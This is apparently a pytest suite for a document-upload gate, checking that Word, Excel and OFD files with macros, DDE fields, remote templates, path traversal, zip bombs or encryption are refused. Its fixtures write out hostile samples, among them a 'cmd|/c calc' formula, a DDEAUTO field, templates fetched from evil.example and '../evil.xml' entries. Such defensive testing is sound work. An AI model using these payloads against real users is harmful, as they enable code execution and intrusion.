"""Office files at the gate: what acts, hides, fetches or swells is refused, what is ordinary is not."""

import contextlib
import io
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.domain.refusal import Refused
from reports.readers.incoming.bundles import MAX_UNPACKED, kind_of
from tests.readers import office
from tests.readers.gate import code, sheet
from tests.readers.hostile import WORD_TYPE, docx, image, ofd, relations


def ole(*streams):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"".join(name.encode("utf-16-le") for name in streams)


@pytest.mark.parametrize(
    ("streams", "why"),
    [
        (("WordDocument",), "old-format"),
        (("Workbook",), "old-format"),
        (("WordDocument", "_VBA_PROJECT"), "macros"),
        (("EncryptedPackage",), "locked"),
    ],
)
@pytest.mark.parametrize("name", ["a.doc", "a.docx", "a.txt"])
def test_old_office_files_are_refused_with_what_to_do(streams, why, name):
    assert code(name, ole(*streams)) == why


MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("a.docm", office.word(office.p("x"), macros=True), "macros"),
        ("a.docx", office.word(office.p("x"), macros=True), "macros"),
        ("a.docx", docx({"word/vbaProject.bin": b"x"}), "macros"),
        ("a.docx", docx({"word/VBAPROJECT.BIN": b"x"}), "macros"),
        ("a.docx", docx({"word/activeX/activeX1.xml": "<a/>"}), "macros"),
        ("a.xlsx", office.packed({"[Content_Types].xml": office.types("xl/workbook.xml", MACRO)}), "macros"),
        ("a.xlsx", sheet(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
        ("a.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        ("a.docx", docx({"word/media/a.exe": b"x"}), "embedded"),
        ("a.docx", docx({"word/media/a.png": b"MZ\x90"}), "embedded"),
        ("a.docx", docx({"word/afchunk.mht": b"x"}), "embedded"),
        ("a.docx", docx({"word/embeddings/a.docx": docx({"word/vbaProject.bin": b"x"})}), "macros"),
        ("a.docx", docx({"word/_rels/document.xml.rels": relations("aFChunk", "x", "Internal")}), "embedded"),
        (
            "a.docx",
            docx(
                {"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm")}
            ),
            "remote",
        ),
        (
            "a.docx",
            docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "\\\\evil\\t.dotm")}),
            "remote",
        ),
        (
            "a.docx",
            docx({"word/_rels/settings.xml.rels": relations("attachedTemplate", "file://evil/t.dotm")}),
            "remote",
        ),
        (
            "a.docx",
            docx({"word/_rels/document.xml.rels": relations("image", "http://evil.example/1.png")}),
            "remote",
        ),
        (
            "a.docx",
            docx(
                body="<w:p><w:r><w:instrText>DDEAU</w:instrText></w:r>"
                "<w:r><w:instrText>TO c:\\cmd</w:instrText></w:r></w:p>"
            ),
            "dynamic",
        ),
        ("a.xlsx", sheet(**{"xl/worksheets/sheet1.xml": "<s><f>cmd|'/c calc'!A0</f></s>"}), "dynamic"),
        (
            "a.xlsx",
            sheet(**{"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
            "dynamic",
        ),
        ("a.docx", docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
        ("a.docx", docx({"../evil.xml": "x"}), "odd-path"),
        ("a.docx", docx({"/etc/x.xml": "x"}), "odd-path"),
        ("a.docx", docx({"a\\..\\x.xml": "x"}), "odd-path"),
        ("a.docx", docx()[:-30], "damaged"),
        ("a.docx", docx()[:200], "damaged"),
        ("a.docx", docx() + b"<script>", "mixed"),
        ("a.ofd", ofd({"Doc_0/a.js": "x"}), "embedded"),
        (
            "a.ofd",
            ofd({"Doc_0/Attachs/Attachments.xml": "<a><ofd:Attachment ID='1'/></a>"}),
            "embedded",
        ),
        ("a.ofd", ofd({"Doc_0/Encryptions.xml": "<a/>"}), "locked"),
        ("a.ofd", office.packed({"OFD.xml": "<a/>"}), "archive"),
    ],
)
def test_office_files_that_act_hide_or_fetch_are_refused(name, data, why):
    assert code(name, data) == why


@pytest.mark.parametrize(
    "data",
    [
        docx({"word/_rels/document.xml.rels": relations("hyperlink", "https://www.gov.cn/")}),
        docx(
            {"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:/Users/a/Normal.dotm")}
        ),
        docx({"word/embeddings/Sheet1.xlsx": sheet(), "word/charts/chart1.xml": "<a/>"}),
        docx({"word/media/image1.png": image("PNG")}),
        docx(body="<w:p><w:r><w:instrText>PAGE ADDED</w:instrText></w:r></w:p>"),
    ],
)
def test_what_ordinary_office_files_hold_is_no_fault(data):
    assert code("a.docx", data) == ""


def test_an_archive_in_an_archive_in_an_archive_is_refused():
    inner = docx()
    for _ in range(2):
        inner = docx({"word/embeddings/a.docx": inner})
    assert code("a.docx", inner) == ""
    assert code("a.docx", docx({"word/embeddings/a.docx": inner})) == "embedded"


def test_both_sides_of_what_an_archive_may_unpack_to():
    rest = len(docx()) * 10
    assert code("a.docx", docx({"word/media/a.png": b"\x00" * (MAX_UNPACKED - rest)})) == ""
    assert code("a.docx", docx({"word/media/a.png": b"\x00" * (MAX_UNPACKED + 1)})) == "swollen"


def test_an_archive_that_lies_about_its_sizes_is_refused():
    bomb = bytearray(docx({"word/media/a.png": b"\x00" * 50_000_000}))
    true = (50_000_000).to_bytes(4, "little")
    assert bomb.count(true) == 2
    assert code("a.docx", bytes(bomb).replace(true, (9).to_bytes(4, "little"))) == "damaged"


def test_entries_that_share_their_bytes_are_refused():
    """An archive as D. Fifield describes (2019): many names, one overlapping body."""
    out = io.BytesIO(docx({"word/media/a.bin": b"\x00" * 10_000_000}))
    with zipfile.ZipFile(out, "a") as archive:
        first = archive.getinfo("word/media/a.bin")
        for number in range(5):
            copy = zipfile.ZipInfo(f"word/media/{number}.bin")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(copy, field, getattr(first, field))
            archive.filelist.append(copy)
        archive._didModify = True
    assert code("a.docx", out.getvalue()) in ("swollen", "damaged")


def test_encrypted_entries_are_refused():
    data = bytearray(docx())
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    assert code("a.docx", bytes(data)) == "locked"


def test_word_types_are_what_the_reader_knows():
    assert WORD_TYPE.encode() in zipfile.ZipFile(io.BytesIO(docx())).read("[Content_Types].xml")


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=6), st.booleans()
)
def test_a_broken_office_file_is_taken_or_refused_and_nothing_else(changes, is_ofd):
    data = bytearray(
        ofd() if is_ofd else docx({"word/_rels/a.rels": relations("image", "a.png", "Internal")})
    )
    for place, value in changes:
        data[place % len(data)] = value
    with contextlib.suppress(Refused):
        assert kind_of(bytes(data)) in ("docx", "ofd")


def test_an_archive_that_costs_time_to_look_through_is_bounded():
    start = time.monotonic()
    part = b"<f>a|" * (6 * 2**20)
    assert code("a.xlsx", sheet(**{f"xl/worksheets/sheet{n}.xml": part for n in range(3)})) == ""
    assert time.monotonic() - start < 60
    assert code("a.docx", docx({"word/_rels/a.rels": b"<a>" + b"<b/>" * 2**20 + b"</a>"})) == "swollen"
